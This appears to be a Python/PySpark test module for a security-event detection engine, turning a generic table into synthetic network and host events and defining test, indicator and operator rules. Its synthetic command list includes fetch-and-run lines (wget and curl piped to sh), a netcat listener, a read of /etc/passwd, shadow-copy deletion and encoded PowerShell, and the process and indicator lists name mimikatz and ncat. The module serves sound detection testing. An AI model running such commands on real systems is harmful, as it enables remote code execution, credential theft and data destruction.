"""The given tables seen as security events.

One text serves both engines: the expressions below are used by Spark's
``selectExpr`` and, joined into a query, by the checking SQL.
"""

from __future__ import annotations

from dataclasses import replace

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from contract.registry import table
from palisade.operators.features import with_features
from palisade.rules.catalog import DEFAULT_RULES
from palisade.rules.model import Condition, Rule
from palisade.schemas import EVENT_SCHEMA
from palisade.session import scratch_path
from palisade.sources.common import to_event_schema

DAY = 86_400
US = 1_000_000
HOST_OFFSET = 1_000_000_000_000

K = "CAST(regexp_extract(props, '([0-9]+)', 1) AS INT)"


def _case(number: str, values: list[str | None]) -> str:
    arms = " ".join(
        f"WHEN {i} THEN {'NULL' if v is None else repr(v)}" for i, v in enumerate(values)
    )
    return f"CASE {number} {arms} END"


PORT = (
    "CASE k % 12 WHEN 0 THEN 22 WHEN 1 THEN 3389 WHEN 2 THEN 53 WHEN 3 THEN 23"
    " WHEN 4 THEN 445 WHEN 5 THEN 139 WHEN 6 THEN 80 WHEN 7 THEN 443 WHEN 8 THEN NULL"
    " WHEN 9 THEN 8080 WHEN 10 THEN 25 ELSE 50000 + k END"
)

NET = {
    "event_id": "event_id",
    "ts": "ts",
    "event_type": "'network'",
    "src_ip": "concat('10.0.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 200 AS STRING))",
    "dst_ip": "CASE WHEN k % 5 = 0 THEN concat('192.168.1.', CAST(k AS STRING))"
    " WHEN k % 7 = 1 THEN concat('172.', CAST(k % 40 AS STRING), '.0.1')"
    " WHEN k % 11 = 2 THEN concat('fe80::', CAST(k AS STRING))"
    " WHEN k % 13 = 3 THEN NULL WHEN k % 17 = 4 THEN '127.0.0.1'"
    " ELSE concat('203.0.113.', CAST(k AS STRING)) END",
    "src_port": "CAST(40000 + user_id * 100 % 25000 AS INT)",
    "dst_port": f"CAST({PORT} AS INT)",
    "protocol": "CASE k % 12 WHEN 8 THEN 'ICMP' WHEN 2 THEN 'udp' WHEN 10 THEN 'GRE' ELSE 'TCP' END",
    "bytes_sent": "CAST(floor(value * 100000) AS BIGINT)",
    "bytes_received": "CASE WHEN k % 3 = 0 THEN CAST(k * 10 AS BIGINT) END",
    "packets_sent": "CASE WHEN k % 4 <> 1 THEN CAST(1 + event_id % 10 AS BIGINT) END",
    "packets_received": "CASE WHEN k % 6 = 0 THEN CAST(k AS BIGINT) END",
    "tcp_flags": _case("k % 7", ["S", "SA", "FA", "R", "PA", None, ""]),
}

PROCESSES = [
    "powershell.exe", "bash", "nc", "rsync", "mimikatz.exe", "svchost.exe", "explorer.exe",
    "python3", "sshd", "cmd.exe", None, "nginx", "ncat", "winword.exe", "lsass", "Mimikatz",
    "postgres", "unknown", "", "chrome",
]
COMMANDS = [
    "powershell -enc SQBFAFgA", "wget http://198.51.100.7/a.sh", "nc -lvp 4444",
    "sudo systemctl restart nginx", "echo aGk= | base64 -d", "schtasks /create /tn job",
    "at /create job", "reg add HKLM/Software/Run /v x", "vssadmin delete shadows /all",
    "ls -la > out.txt &", None, "curl https://example.org/x | sh",
    "Invoke-WebRequest -Uri http://example.org", "sudo -l", "cat /etc/passwd", "",
    "powershell -EncodedCommand AAAA", "FROMBASE64STRING(x)", "sort < in.txt", "sudo su",
    "regedit /e run", "VSSADMIN Delete Shadows", "wget ftp://example.org/f",
    "python -c eval(1)", "schtasks/create",
]
PARENTS = ["explorer.exe", "WINWORD.EXE", "excel.exe", "chrome.exe", None, "iexplore.exe", "", "init", "cron"]

HOST = {
    "event_id": f"event_id + {HOST_OFFSET}",
    "ts": "ts",
    "event_type": "'host'",
    "hostname": "concat('host', CAST(user_id % 20 AS STRING))",
    "username": "CASE user_id % 10 WHEN 0 THEN 'root' WHEN 1 THEN 'administrator'"
    " WHEN 2 THEN NULL WHEN 3 THEN '0' ELSE concat('user', CAST(user_id % 10 AS STRING)) END",
    "process_name": _case("k % 20", PROCESSES),
    "process_id": "CAST(1000 + k AS INT)",
    "command_line": _case("k % 25", COMMANDS),
    "parent_process": _case("k % 9", PARENTS),
    "message": "CASE raw_type WHEN 'click' THEN 'user login ok' WHEN 'error' THEN 'Login failed'"
    " ELSE 'page served' END",
}

RAW_SQL = (
    f"SELECT event_id, ts, user_id, event_type AS raw_type, value, {K} AS k FROM events"
)


def _columns(exprs: dict[str, str]) -> list[str]:
    return [f"{e} AS {a}" for a, e in exprs.items()]


NET_SQL = f"net AS (SELECT {', '.join(_columns(NET))} FROM ({RAW_SQL}))"
HOST_SQL = f"host AS (SELECT {', '.join(_columns(HOST))} FROM ({RAW_SQL}))"


def raw_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return table(spark, sf_dir, "events").selectExpr(
        "event_id", "ts", "user_id", "event_type AS raw_type", "value", f"{K} AS k"
    )


def _as_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every row of the events table as a network and as a host event."""
    rows = raw_events(spark, sf_dir)
    net = rows.selectExpr(*_columns(NET)).withColumn("source", F.lit("netflow"))
    host = rows.selectExpr(*_columns(HOST)).withColumn("source", F.lit("syslog"))
    parts = [
        to_event_schema(
            part.withColumn("timestamp", F.col("ts").cast("timestamp")).withColumn(
                "raw_data", F.to_json(F.struct(text))
            )
        )
        for part, text in ((net, "tcp_flags"), (host, "message"))
    ]
    return parts[0].unionByName(parts[1])


# Rows of the event table that one task writes.
ROWS_A_TASK = 250_000

_STORED: dict[tuple[str, str], str] = {}


def all_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The stored event table, by type. It is ingested once per session, as
    detection and reports always run on stored events."""
    key = (spark.sparkContext.applicationId, sf_dir)
    if key not in _STORED:
        path = scratch_path(spark, "events")
        # Rows are sorted by type in a task's memory, so there are more tasks for more rows.
        rows = 2 * table(spark, sf_dir, "events").count()
        (
            with_features(_as_events(spark, sf_dir))
            .repartition(max(spark.sparkContext.defaultParallelism, -(-rows // ROWS_A_TASK)), "event_id")
            .write.partitionBy("event_type")
            .parquet(path)
        )
        _STORED[key] = path
    return spark.read.schema(EVENT_SCHEMA).parquet(_STORED[key]).select(*EVENT_SCHEMA.names)


def net_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The network events."""
    return all_events(spark, sf_dir).where("event_type = 'network'")


def host_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The host events."""
    return all_events(spark, sf_dir).where("event_type = 'host'")


# The shipped thresholds count seconds and never fire on events that lie hours
# apart, so the same rules are checked with windows of days.
WIDER = {
    "Port Scan Detection": (5, DAY),
    "SSH Brute Force": (3, 7 * DAY),
    "RDP Brute Force": (3, DAY),
    "DNS Tunneling Candidate": (5, 7 * DAY),
    "ICMP Flood": (3, 7 * DAY),
    "Privilege Escalation - Sudo": (50, 2 * DAY),
}
IOC_RULES = [
    Rule(
        "Known Bad Address",
        "Traffic with a listed address",
        "ioc",
        "listed addresses",
        "high",
        "network",
        ioc_values=("203.0.113.17", "203.0.113.64", "10.0.1.33", "127.0.0.1"),
        confidence=0.9,
        signature_id=101,
    ),
    Rule(
        "Known Bad Tool",
        "Listed process or text in a command line",
        "ioc",
        "listed tools",
        "critical",
        None,
        ioc_values=("ncat", "198.51.100.7", "example.org", "sudo", "su"),
        confidence=0.95,
        signature_id=102,
    ),
]
TEST_RULES = [
    replace(r, threshold=WIDER[r.name][0], time_window_seconds=WIDER[r.name][1])
    if r.name in WIDER
    else r
    for r in DEFAULT_RULES
]
ALL_RULES = TEST_RULES + IOC_RULES

# One rule per condition type, with a path into the raw JSON.
OPERATOR_RULES = [
    Rule("eq", "", "pattern", "", "low", "network", (Condition("protocol", "equals", value="udp"),), signature_id=201),
    Rule("in", "", "pattern", "", "low", "network", (Condition("dst_port", "in", values=(80, 443)),), signature_id=202),
    Rule("range", "", "pattern", "", "low", None, (Condition("bytes_sent", "range", min=1000000, max=5000000),), signature_id=203),
    Rule("contains", "", "pattern", "", "low", "host", (Condition("command_line", "contains", value="Delete"),), signature_id=204),
    Rule("regex", "", "pattern", "", "low", "host", (Condition("command_line", "regex", pattern="^vss.*(all|SHADOWS)$"),), signature_id=205),
    Rule("path", "", "pattern", "", "low", None, (Condition("raw_data.message", "contains", value="failed"),), signature_id=206),
    Rule("both", "", "pattern", "", "low", None, (Condition("hostname", "equals", value="host3"), Condition("process_id", "range", max=1050)), signature_id=207),
    Rule("off", "", "pattern", "", "low", None, (Condition("event_type", "equals", value="host"),), enabled=False, signature_id=208),
    Rule("none", "", "pattern", "", "low", None, (), signature_id=209),
    Rule("absent", "", "pattern", "", "low", None, (Condition("no_such_field", "equals", value="x"),), signature_id=210),
]


def created_at():
    """A fixed creation time, so alerts do not depend on the clock."""
    return F.lit("2024-02-01 00:00:00").cast("timestamp")
